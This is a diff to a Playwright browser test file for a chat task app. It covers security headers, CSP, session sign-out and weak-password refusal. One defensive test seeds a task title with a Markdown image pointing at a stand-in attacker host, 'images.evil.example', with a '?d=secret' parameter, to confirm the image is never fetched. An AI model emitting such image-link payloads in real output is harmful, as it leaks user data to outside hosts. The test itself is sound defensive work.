@@ -1,6 +1,19 @@
 import type { Page } from "@playwright/test";
 import axe from "axe-core";
-import { PASSWORD, conversationLog, createTask, expect, say, signUpInPage, test } from "./helpers";
+import { PASSWORD, conversationLog, createTask, expect, signUpInPage, test } from "./helpers";
+
+/**
+ * Sends a chat message once the composer is live: text typed before the page hydrates is lost,
+ * so it is typed again until the Send button takes it.
+ */
+async function say(page: Page, text: string): Promise<void> {
+  const box = page.getByRole("textbox", { name: "Message" });
+  await expect(async () => {
+    await box.fill(text);
+    await expect(page.getByRole("button", { name: "Send" })).toBeEnabled({ timeout: 1000 });
+  }).toPass();
+  await box.press("Enter");
+}
 
 // Issue #15, in the browser: the pages' security headers hold with no console error (the fixture
 // fails a test on any, CSP violations included), and no remote image in a reply is ever fetched.
@@ -24,7 +37,7 @@ test("every page sends its security headers and runs under its CSP without a con
     await expect(page.getByRole("heading").first()).toBeVisible();
   }
   // The chat works under the policy: its lazily loaded chunks and the stream.
-  await page.goto("/chat", { waitUntil: "networkidle" }); // the composer's lazy chunk too
+  await page.goto("/chat");
   await say(page, "add a task to water the plants");
   await expect(
     conversationLog(page)
@@ -59,7 +72,7 @@ test("a remote image in a reply is shown as its link text and never requested", 
   await createTask(request, user, {
     title: "Quarterly report ![tracking pixel](https://images.evil.example/p.png?d=secret)",
   });
-  await page.goto("/chat", { waitUntil: "networkidle" }); // the composer's lazy chunk too
+  await page.goto("/chat");
   await say(page, "what's still pending?");
   const log = conversationLog(page);
   // The reply (not the tool card, which shows the title as plain text) renders the Markdown.
@@ -117,4 +130,15 @@ test("the Sessions page lists devices, signs one out, then everywhere", async ({
   expect((await me(user.token)).status()).toBe(401);
   await page.goto("/sessions");
   await expect(page).toHaveURL(/\/sign-in$/);
+});
+
+test("the sign-up form shows why a password is refused", async ({ page, consoleErrors }) => {
+  consoleErrors.allow(/status of 400/);
+  await page.goto("/sign-up");
+  await page.getByLabel("Name").fill("Weak Walter");
+  await page.getByLabel("Email").fill(`weak-${Date.now()}@example.com`);
+  await page.getByLabel("Password").fill("password12");
+  await page.getByRole("button", { name: "Sign up" }).click();
+  await expect(page.getByRole("alert").filter({ hasText: /commonly used password/i })).toBeVisible();
+  await expect(page).toHaveURL(/\/sign-up$/);
 });
